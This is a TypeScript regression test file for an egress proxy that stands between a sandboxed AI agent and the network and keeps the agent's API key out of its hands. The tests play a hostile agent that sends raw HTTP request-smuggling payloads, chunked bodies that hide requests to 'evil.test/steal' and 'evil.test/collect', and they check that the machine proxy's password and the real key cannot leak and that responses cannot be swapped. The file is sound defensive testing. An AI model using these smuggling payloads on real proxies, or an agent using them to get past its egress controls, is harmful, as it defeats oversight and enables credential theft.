// Round 2 of the egress proxy's review (io/egress-proxy.ts), on real sockets outside any sandbox:
// a hostile agent that holds only the placeholder talks raw HTTP/1.1 to the proxy and its model
// routes. Each row failed before its fix (a chunked body now goes on chunked); its comment says
// what went wrong then and what must hold.
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { type EgressProxy, startEgressProxy } from '../../src/io/egress-proxy.js';
import { raw } from './raw-http.js';

const KEY = 'sk-real-key-0123456789abcdef';
const PLACEHOLDER = 'forkflush-placeholder-test';
const MACHINE_PASSWORD = 'machine-proxy-password-42';

const servers: Server[] = [];
const proxies: EgressProxy[] = [];
afterEach(async () => {
  for (const p of proxies.splice(0)) await p.close();
  for (const s of servers.splice(0)) {
    s.closeAllConnections();
    s.close();
  }
});

/** Waits until `ok()` holds (generous: the machine is shared), else fails saying what. */
async function until(ok: () => boolean, what: string, ms = 20_000): Promise<void> {
  const end = Date.now() + ms;
  while (!ok()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

/** A request with a chunked body holding `inner` as its one chunk. */
function chunked(head: string, inner: string): string {
  return `${head}Transfer-Encoding: chunked\r\n\r\n${Buffer.byteLength(inner).toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
}

async function proxyWith(o: {
  allow?: (host: string, port: number) => 'named' | 'wildcard' | null;
  upstream?: string;
  env?: NodeJS.ProcessEnv;
}): Promise<EgressProxy> {
  const p = await startEgressProxy({
    socketDir: null,
    routes: o.upstream
      ? [
          {
            name: 'model',
            upstream: o.upstream,
            keys: [{ placeholder: PLACEHOLDER, value: KEY, headers: ['x-api-key'] }],
          },
        ]
      : [],
    reach: o.allow ?? (() => null),
    env: o.env ?? {},
  });
  proxies.push(p);
  return p;
}

describe("a request body the proxy forwards is framed, so that it can never be read as a request of the agent's own", () => {
  // Before: a plain-HTTP GET to an allowed host with a chunked body goes to the machine's proxy with its
  // Transfer-Encoding dropped and the body unframed, so the machine's proxy reads the body as a second
  // request: it got [GET http://allowed.test/, GET http://evil.test/steal].
  // Must hold: only requests for allowed hosts ever reach the machine's proxy.
  it("a GET with a chunked body reaches no host outside the allowlist through the machine's proxy", async () => {
    const lines: string[] = [];
    const machine = createServer((req, res) => {
      lines.push(`${req.method} ${req.url}`);
      req.resume();
      req.on('end', () => res.writeHead(200, { 'content-length': '2' }).end('ok'));
    });
    servers.push(machine);
    await new Promise<void>((r) => machine.listen(0, '127.0.0.1', r));
    const via = `http://127.0.0.1:${(machine.address() as AddressInfo).port}`;
    const p = await proxyWith({
      allow: (host) => (host === 'allowed.test' ? 'named' : null),
      env: { HTTP_PROXY: via },
    });
    const smuggled = 'GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\n\r\n';
    const answer = await raw(
      p.listeners.proxy as number,
      chunked('GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n', smuggled),
    );
    expect(answer).toMatch(/^HTTP\/1\.1 (200|400|403|411)/);
    await until(() => lines.length >= 1, 'the machine proxy to see the allowed request');
    // Give a smuggled request the time to be parsed too: it arrives in the same write.
    await new Promise((r) => setTimeout(r, 500));
    expect(lines.filter((l) => !l.includes('allowed.test'))).toEqual([]);
  });

  // Before: the smuggled "POST http://evil.test/collect" (Content-Length 130) waits on the pooled
  // connection and the agent's next request, with forkflush's Proxy-Authorization added, becomes its
  // body: evil.test got "proxy-authorization: Basic dXNlcjpt...LTQy" (the machine proxy's password).
  // Must hold: the machine proxy's credentials go with no request to a host the agent chose.
  it("the machine proxy's password is never carried to a host the agent chose", async () => {
    const got: { line: string; body: string }[] = [];
    const machine = createServer((req, res) => {
      let body = '';
      req.setEncoding('latin1').on('data', (d: string) => (body += d));
      req.on('end', () => {
        got.push({ line: `${req.method} ${req.url}`, body });
        res.writeHead(200, { 'content-length': '2' }).end('ok');
      });
    });
    servers.push(machine);
    await new Promise<void>((r) => machine.listen(0, '127.0.0.1', r));
    const via = `http://user:${MACHINE_PASSWORD}@127.0.0.1:${(machine.address() as AddressInfo).port}`;
    const p = await proxyWith({
      allow: (host) => (host === 'allowed.test' ? 'named' : null),
      env: { HTTP_PROXY: via },
    });
    const port = p.listeners.proxy as number;
    const smuggled = 'POST http://evil.test/collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 130\r\n\r\n';
    await raw(
      port,
      chunked('GET http://allowed.test/a HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n', smuggled),
    );
    await raw(port, 'GET http://allowed.test/b HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n', 3000);
    await until(() => got.length >= 1, 'the machine proxy to see a request');
    await new Promise((r) => setTimeout(r, 500));
    const password = Buffer.from(`user:${MACHINE_PASSWORD}`).toString('base64');
    const elsewhere = got.filter((g) => !g.line.includes('allowed.test'));
    expect(JSON.stringify(elsewhere)).not.toContain(password);
  });
});

describe('a model route forwards only what the agent sent with its placeholder, each answer to its own request', () => {
  /** A kept-alive upstream that records each request; /slow answers only once `release` is called. */
  async function upstream() {
    const seen: { url: string; key: string | undefined; body: string }[] = [];
    let release = () => {};
    const server = createServer((req, res) => {
      const s = { url: req.url ?? '', key: req.headers['x-api-key'] as string | undefined, body: '' };
      seen.push(s);
      req.setEncoding('latin1').on('data', (d: string) => (s.body += d));
      const send = () => res.writeHead(200, { 'content-type': 'text/plain' }).end(`answer to ${req.url}`);
      if (req.url === '/slow') release = send;
      else req.on('end', send);
    });
    servers.push(server);
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    return { port: (server.address() as AddressInfo).port, seen, release: () => release() };
  }

  function call(port: number, path: string): Promise<string> {
    return new Promise((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port, path, headers: { 'x-api-key': PLACEHOLDER } }, (res) => {
        let body = '';
        res.setEncoding('latin1').on('data', (d: string) => (body += d));
        res.on('end', () => resolve(body));
      });
      req.on('error', reject);
      req.end();
    });
  }

  // Before: the agent's GET to the model route with a chunked body reaches the upstream unframed, read
  // as a request of its own that never carried the placeholder: the upstream saw ['/v1/a', '/slow'].
  // Must hold: the upstream sees only the requests the agent sent with its placeholder.
  it('a GET with a chunked body smuggles no request to the upstream', async () => {
    const up = await upstream();
    const p = await proxyWith({ upstream: `http://127.0.0.1:${up.port}/` });
    const smuggled = 'GET /slow HTTP/1.1\r\nHost: x\r\n\r\n';
    const answer = await raw(
      p.listeners.model as number,
      chunked(`GET /v1/a HTTP/1.1\r\nHost: x\r\nx-api-key: ${PLACEHOLDER}\r\nConnection: close\r\n`, smuggled),
    );
    expect(answer).toMatch(/^HTTP\/1\.1 \d{3}/);
    await until(() => up.seen.length >= 1, 'the upstream to see the request');
    await new Promise((r) => setTimeout(r, 500));
    up.release();
    expect(up.seen.map((s) => s.url)).toEqual(['/v1/a']);
  });

  // Before: the smuggled request's answer waits on the route's pooled connection and the next call
  // (the CLI's model call, whose usage it counts from its answer) gets it: "answer to /slow", while
  // the call the upstream charged for is never seen. Must hold: each call gets its own answer.
  it("the next model call through the route gets its own answer, never a smuggled request's", async () => {
    const up = await upstream();
    const p = await proxyWith({ upstream: `http://127.0.0.1:${up.port}/` });
    const port = p.listeners.model as number;
    const smuggled = 'GET /slow HTTP/1.1\r\nHost: x\r\n\r\n';
    await raw(
      port,
      chunked(`GET /v1/a HTTP/1.1\r\nHost: x\r\nx-api-key: ${PLACEHOLDER}\r\nConnection: close\r\n`, smuggled),
    );
    const answer = call(port, '/v1/messages');
    // The smuggled request is answered once the CLI's call is in (or at once when nothing was smuggled).
    await until(() => up.seen.some((s) => s.url === '/v1/messages'), 'the model call to reach the upstream');
    up.release();
    expect(await answer).toBe('answer to /v1/messages');
  });

  // Before: a smuggled "POST /v1/files" (Content-Length 90) takes the agent's next call through the
  // route as its body: the upstream got a /v1/files body holding "x-api-key: sk-real-key-...".
  // Must hold: the key reaches the upstream only in the header where the placeholder was.
  it('the key never reaches the upstream inside a request body', async () => {
    const up = await upstream();
    const p = await proxyWith({ upstream: `http://127.0.0.1:${up.port}/` });
    const port = p.listeners.model as number;
    const smuggled = 'POST /v1/files HTTP/1.1\r\nHost: x\r\nContent-Length: 90\r\n\r\n';
    await raw(
      port,
      chunked(`GET /v1/a HTTP/1.1\r\nHost: x\r\nx-api-key: ${PLACEHOLDER}\r\nConnection: close\r\n`, smuggled),
    );
    await raw(port, `GET /v1/b HTTP/1.1\r\nHost: x\r\nx-api-key: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`, 3000);
    await until(() => up.seen.length >= 1, 'the upstream to see a request');
    await new Promise((r) => setTimeout(r, 500));
    expect(up.seen.filter((s) => s.body.includes(KEY)).map((s) => `${s.url}: ${s.body}`)).toEqual([]);
  });
});
